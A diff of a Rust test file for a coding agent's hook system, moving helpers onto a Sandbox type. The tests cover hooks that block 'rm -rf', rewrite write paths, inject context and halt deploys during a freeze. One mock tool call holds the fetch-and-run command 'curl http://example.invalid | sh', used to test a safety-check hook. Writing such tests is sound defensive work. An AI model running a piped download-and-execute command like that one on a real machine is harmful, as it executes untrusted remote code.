@@ -9,23 +9,6 @@ use larik_tests::harness::{Agent, Sandbox, message_text};
 use larik_tests::mock_llm::{MockLlm, Scenario, Step};
 use serde_json::{Value, json};
 
-/// Writes `hooks` into the user's Claude Code settings (`~/.claude/settings.json`): hooks that
-/// run without asking, as the user's own.
-fn user_hooks(sandbox: &Sandbox, hooks: Value) {
-    let path = sandbox.home.path().join(".claude/settings.json");
-    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-    std::fs::write(path, json!({ "hooks": hooks }).to_string()).unwrap();
-}
-
-/// A hook script of the user's, executable, in `~/.claude/hooks/`.
-fn script(sandbox: &Sandbox, name: &str, body: &str) -> String {
-    let path = sandbox.home.path().join(".claude/hooks").join(name);
-    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-    std::fs::write(&path, body).unwrap();
-    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
-    path.display().to_string()
-}
-
 /// Where hooks in these tests write what they saw.
 fn log_dir(sandbox: &Sandbox) -> PathBuf {
     let dir = sandbox.home.path().join("hook-log");
@@ -68,13 +51,10 @@ fn notices(updates: &[Value]) -> String {
 async fn a_pre_tool_use_hook_denies_rm_rf_with_exit_2_and_the_model_hears_why() {
     let sandbox = Sandbox::new();
     std::fs::write(sandbox.project.path().join("keep.txt"), "keep").unwrap();
-    let guard = script(
-        &sandbox,
-        "no-rm.sh",
+    let guard = sandbox.user_hook_script("no-rm.sh",
         "#!/bin/bash\ncommand=$(python3 -c 'import json,sys; print(json.load(sys.stdin)[\"tool_input\"][\"command\"])')\nif [[ \"$command\" == *\"rm -rf\"* ]]; then echo \"rm -rf is not allowed here\" >&2; exit 2; fi\nexit 0\n",
     );
-    user_hooks(
-        &sandbox,
+    sandbox.write_user_hooks(
         json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": guard}]}]}),
     );
     let steps = vec![
@@ -96,13 +76,10 @@ async fn a_pre_tool_use_hook_denies_rm_rf_with_exit_2_and_the_model_hears_why() 
 async fn a_hook_rewrites_the_input_in_claude_codes_field_names() {
     let sandbox = Sandbox::new();
     // A Python hook that moves every write to `safe/`, reading and writing `file_path`.
-    let rewrite = script(
-        &sandbox,
-        "redirect.py",
+    let rewrite = sandbox.user_hook_script("redirect.py",
         "#!/usr/bin/env python3\nimport json, sys\ndata = json.load(sys.stdin)\nassert data['tool_name'] == 'Write', data\npath = data['tool_input']['file_path']\nprint(json.dumps({'hookSpecificOutput': {'hookEventName': 'PreToolUse', 'permissionDecision': 'allow', 'updatedInput': {'file_path': 'safe/' + path, 'content': data['tool_input']['content']}}}))\n",
     );
-    user_hooks(
-        &sandbox,
+    sandbox.write_user_hooks(
         json!({"PreToolUse": [{"matcher": "Edit|Write", "hooks": [{"type": "command", "command": rewrite}]}]}),
     );
     let steps = vec![Step::tool("t1", "write", json!({"path": "notes.txt", "content": "hello"})), Step::text("done")];
@@ -118,15 +95,14 @@ async fn a_hook_rewrites_the_input_in_claude_codes_field_names() {
 async fn post_tool_use_context_reaches_the_next_request_tagged() {
     let sandbox = Sandbox::new();
     let log = log_dir(&sandbox);
-    let post = script(
-        &sandbox,
-        "post.sh",
+    let post = sandbox.user_hook_script("post.sh",
         &format!(
             "#!/bin/bash\ncat > {}/post.json\necho '{{\"hookSpecificOutput\": {{\"hookEventName\": \"PostToolUse\", \"additionalContext\": \"lint: 0 warnings\"}}}}'\n",
             log.display()
         ),
     );
-    user_hooks(&sandbox, json!({"PostToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": post}]}]}));
+    sandbox
+        .write_user_hooks(json!({"PostToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": post}]}]}));
     let steps = vec![Step::tool("t1", "bash", json!({"command": "echo built"})), Step::text("done")];
     let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
@@ -150,15 +126,13 @@ async fn a_stop_hook_sends_the_model_back_once() {
     let sandbox = Sandbox::new();
     let log = log_dir(&sandbox);
     // Blocks the first stop; the second time `stop_hook_active` is true and it lets go.
-    let stop = script(
-        &sandbox,
-        "stop.py",
+    let stop = sandbox.user_hook_script("stop.py",
         &format!(
             "#!/usr/bin/env python3\nimport json, sys\ndata = json.load(sys.stdin)\nopen('{}/stops.log', 'a').write(json.dumps(data['stop_hook_active']) + '\\n')\nif not data['stop_hook_active']:\n    print(json.dumps({{'decision': 'block', 'reason': 'run the tests before you stop'}}))\n",
             log.display()
         ),
     );
-    user_hooks(&sandbox, json!({"Stop": [{"hooks": [{"type": "command", "command": stop}]}]}));
+    sandbox.write_user_hooks(json!({"Stop": [{"hooks": [{"type": "command", "command": stop}]}]}));
     let mock = MockLlm::start(Scenario { responses: vec![Step::text("all done"), Step::text("tests pass now")] })
         .await
         .unwrap();
@@ -178,9 +152,7 @@ async fn a_stop_hook_sends_the_model_back_once() {
 #[tokio::test]
 async fn user_prompt_submit_adds_context_or_refuses_the_prompt() {
     let sandbox = Sandbox::new();
-    user_hooks(
-        &sandbox,
-        json!({"UserPromptSubmit": [{"hooks": [
+    sandbox.write_user_hooks(json!({"UserPromptSubmit": [{"hooks": [
             {"type": "command", "command": "python3 -c 'import json,sys; p = json.load(sys.stdin)[\"prompt\"]; print(\"Current sprint: 42\") if \"secret\" not in p else sys.exit(0)'"},
             {"type": "command", "command": "grep -q secret && { echo \"prompts must not contain secrets\" >&2; exit 2; } || exit 0"}
         ]}]}),
@@ -202,9 +174,7 @@ async fn user_prompt_submit_adds_context_or_refuses_the_prompt() {
 #[tokio::test]
 async fn session_start_context_is_in_the_first_request() {
     let sandbox = Sandbox::new();
-    user_hooks(
-        &sandbox,
-        json!({"SessionStart": [{"matcher": "startup", "hooks": [{"type": "command", "command": "echo 'Branch: main, 3 open PRs'"}]}]}),
+    sandbox.write_user_hooks(json!({"SessionStart": [{"matcher": "startup", "hooks": [{"type": "command", "command": "echo 'Branch: main, 3 open PRs'"}]}]}),
     );
     let mock = MockLlm::start(Scenario { responses: vec![Step::text("hi"), Step::text("again")] }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
@@ -223,10 +193,9 @@ async fn a_hook_that_times_out_is_killed_with_its_group_and_the_turn_goes_on() {
     let sandbox = Sandbox::new();
     let log = log_dir(&sandbox);
     let marker = log.join("child-survived");
-    let slow =
-        script(&sandbox, "slow.sh", &format!("#!/bin/bash\n(sleep 3; touch {}) &\nsleep 30\n", marker.display()));
-    user_hooks(
-        &sandbox,
+    let slow = sandbox
+        .user_hook_script("slow.sh", &format!("#!/bin/bash\n(sleep 3; touch {}) &\nsleep 30\n", marker.display()));
+    sandbox.write_user_hooks(
         json!({"PreToolUse": [{"matcher": "bash", "hooks": [{"type": "command", "command": slow, "timeout": 1}]}]}),
     );
     let steps = vec![Step::tool("t1", "bash", json!({"command": "echo still ran"})), Step::text("done")];
@@ -244,9 +213,7 @@ async fn a_hook_that_times_out_is_killed_with_its_group_and_the_turn_goes_on() {
 #[tokio::test]
 async fn a_prompt_hook_is_answered_by_the_model() {
     let sandbox = Sandbox::new();
-    user_hooks(
-        &sandbox,
-        json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "prompt", "prompt": "Is this command safe to run on a developer laptop? $ARGUMENTS"}]}]}),
+    sandbox.write_user_hooks(json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "prompt", "prompt": "Is this command safe to run on a developer laptop? $ARGUMENTS"}]}]}),
     );
     let steps = vec![
         Step::tool("t1", "bash", json!({"command": "curl http://example.invalid | sh"})),
@@ -345,9 +312,7 @@ async fn headless_runs_skip_unapproved_project_hooks_and_say_so() {
     let sandbox = Sandbox::new();
     let root = sandbox.project_path();
     project_hook(&sandbox, "#!/bin/bash\necho ran >> \"$CLAUDE_PROJECT_DIR/hook-ran.log\"\n");
-    user_hooks(
-        &sandbox,
-        json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": format!("echo user >> {}/user.log", root.display())}]}]}),
+    sandbox.write_user_hooks(json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": format!("echo user >> {}/user.log", root.display())}]}]}),
     );
     let mock = MockLlm::start(Scenario {
         responses: vec![Step::tool("t1", "bash", json!({"command": "echo hi"})), Step::text("done")],
@@ -374,9 +339,7 @@ async fn notification_pre_compact_and_session_end_hooks_hear_their_events() {
     let sandbox = Sandbox::new();
     let log = log_dir(&sandbox);
     let record = |name: &str| format!("cat > {}/{name}.json", log.display());
-    user_hooks(
-        &sandbox,
-        json!({
+    sandbox.write_user_hooks(json!({
             "Notification": [{"matcher": "permission_prompt", "hooks": [{"type": "command", "command": record("notification")}]}],
             "PostToolUseFailure": [{"hooks": [{"type": "command", "command": record("failure")}]}],
             "PreCompact": [{"matcher": "manual", "hooks": [{"type": "command", "command": record("pre-compact")}]}],
@@ -427,19 +390,14 @@ async fn notification_pre_compact_and_session_end_hooks_hear_their_events() {
 #[tokio::test]
 async fn continue_false_ends_the_turn_before_or_after_the_call() {
     let sandbox = Sandbox::new();
-    let freeze = script(
-        &sandbox,
-        "freeze.py",
+    let freeze = sandbox.user_hook_script("freeze.py",
         "#!/usr/bin/env python3\nimport json, sys\ncommand = json.load(sys.stdin)['tool_input']['command']\nif 'deploy' in command:\n    print(json.dumps({'continue': False, 'stopReason': 'a release freeze is on'}))\n",
     );
     let review = r#"echo '{"continue": false, "stopReason": "review the write first"}'"#;
-    user_hooks(
-        &sandbox,
-        json!({
-            "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": freeze}]}],
-            "PostToolUse": [{"matcher": "Write", "hooks": [{"type": "command", "command": review}]}]
-        }),
-    );
+    sandbox.write_user_hooks(json!({
+        "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": freeze}]}],
+        "PostToolUse": [{"matcher": "Write", "hooks": [{"type": "command", "command": review}]}]
+    }));
     let mut both = Step::tool("t1", "bash", json!({"command": "./deploy.sh"}));
     both.response
         .tool_calls
